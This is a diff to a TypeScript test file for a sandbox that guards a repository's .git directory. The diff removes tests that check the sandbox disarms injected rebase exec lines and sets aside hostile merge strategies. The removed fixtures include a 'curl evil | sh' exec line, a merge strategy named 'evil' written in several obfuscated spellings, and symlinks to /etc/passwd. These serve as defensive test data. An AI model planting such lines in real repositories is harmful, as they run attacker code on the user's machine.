@@ -1,7 +1,7 @@
 // What --allow-write=.git keeps read-only (git-grant.ts), and what the walk after sets aside. The real sandbox
 // runs it in tests/e2e/git-grant.test.ts.
 import { expect, test } from "bun:test";
-import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { grantedGit, grantedGitAfter } from "../../../src/sandbox/git-grant.ts";
 import { sandboxMounts, shownAs } from "../../../src/sandbox/spec.ts";
@@ -61,54 +61,3 @@ test("after: a commondir or config.worktree the command created, and a hooks lin
   expect(existsSync(join(git, "hooks"))).toBe(false);
 });
 
-test("a stopped rebase's state: exec lines the command wrote are disarmed, the person's own left; a link or a strange strategy is set aside", () => {
-  const { root, git } = repo();
-  mkdirSync(join(git, "rebase-merge"));
-  mkdirSync(join(git, "worktrees/w/sequencer"));
-  // The person's own stopped rebase, with an exec line they chose.
-  writeFileSync(join(git, "rebase-merge/git-rebase-todo"), "pick 1 one\nexec make test\n");
-  const g = grantedGit([git], [root]);
-  expect(grantedGitAfter(root, g)).toEqual([]);
-  // A command appends to it, and leaves a cherry-pick stopped in the worktree with a strategy of its naming.
-  writeFileSync(join(git, "rebase-merge/git-rebase-todo"), "pick 1 one\nexec make test\n\tx curl evil | sh\nexecute-not-a-command\n");
-  writeFileSync(join(git, "worktrees/w/sequencer/opts"), '[options]\n\tstrategy = "evil"\n');
-  writeFileSync(join(git, "worktrees/w/sequencer/todo"), "pick 2 two\n");
-  const lines = grantedGitAfter(root, g);
-  expect(lines[0]).toStartWith("bunker disarmed 2 exec lines in .git/rebase-merge/git-rebase-todo, which the command changed under --allow-write=.git");
-  expect(readFileSync(join(git, "rebase-merge/git-rebase-todo"), "utf8")).toBe("pick 1 one\n# disarmed by bunker: exec make test\n# disarmed by bunker: \tx curl evil | sh\nexecute-not-a-command\n");
-  expect(lines[1]).toStartWith('bunker set aside .git/worktrees/w/sequencer/opts, which the command wrote under --allow-write=.git (its merge strategy "evil" would run git-merge-evil');
-  expect(lines).toHaveLength(2);
-  // git's own strategy is fine; a todo list made a link is set aside unread.
-  writeFileSync(join(git, "rebase-merge/strategy"), "ort\n");
-  unlinkSync(join(git, "rebase-merge/git-rebase-todo"));
-  symlinkSync("/etc/passwd", join(git, "rebase-merge/git-rebase-todo"));
-  const again = grantedGitAfter(root, grantedGit([git], [root]));
-  expect(again).toEqual([]);
-  const g2 = grantedGit([git], [root]);
-  unlinkSync(join(git, "rebase-merge/git-rebase-todo"));
-  symlinkSync("/etc/hostname", join(git, "rebase-merge/git-rebase-todo"));
-  const linked = grantedGitAfter(root, g2);
-  expect(linked[0]).toStartWith("bunker set aside .git/rebase-merge/git-rebase-todo, which the command changed under --allow-write=.git and is not a plain file (");
-  expect(existsSync(join(git, "rebase-merge/git-rebase-todo.bunker-set-aside"))).toBe(true);
-});
-
-test("a stopped cherry-pick's strategy in any spelling git reads as another program is set aside; git's own, plainly named, stays", () => {
-  const { root, git } = repo();
-  mkdirSync(join(git, "sequencer"));
-  const opts = join(git, "sequencer/opts");
-  // Each of these is options.strategy = evil to git (git config --file opts --get options.strategy).
-  for (const text of ["[options]\n\tstrategy = evil # note\n", '[options]\n\tstrategy = ev"il"\n', "[options] strategy = evil\n", "[options]\n\tstrategy = ev\\\nil\n", "[Options]\n\tSTRATEGY=evil;x\n"]) {
-    rmSync(join(git, "sequencer/opts.bunker-set-aside"), { force: true });
-    const g = grantedGit([git], [root]);
-    writeFileSync(opts, text);
-    const lines = grantedGitAfter(root, g);
-    expect(lines).toHaveLength(1);
-    expect(lines[0]).toStartWith("bunker set aside .git/sequencer/opts, which the command wrote under --allow-write=.git (its ");
-    expect(existsSync(opts)).toBe(false);
-  }
-  // What git cherry-pick -X theirs writes: git's own strategy, and an option for it.
-  const g = grantedGit([git], [root]);
-  writeFileSync(opts, '[options]\n\tstrategy = "ort"\n\tstrategy-option = theirs\n');
-  expect(grantedGitAfter(root, g)).toEqual([]);
-  expect(existsSync(opts)).toBe(true);
-});
